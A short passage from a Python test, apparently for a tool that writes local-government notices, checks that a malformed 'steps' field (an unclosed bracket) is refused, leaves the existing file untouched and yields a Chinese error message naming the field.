    before = path.read_bytes()
    form["steps"] = "- {step: 提交申请材料\n  - who: [未闭合"
    refused = desk.write_notice(town, kind, form, notice_id="guide-dibao")
    assert refused.path is None and path.read_bytes() == before  # a typo never breaks the file
    assert "「steps」第" in refused.problems[0].message and "写法不对" in refused.problems[0].message
    assert desk.field_of(refused.problems[0], town, "guide-dibao") == "steps"
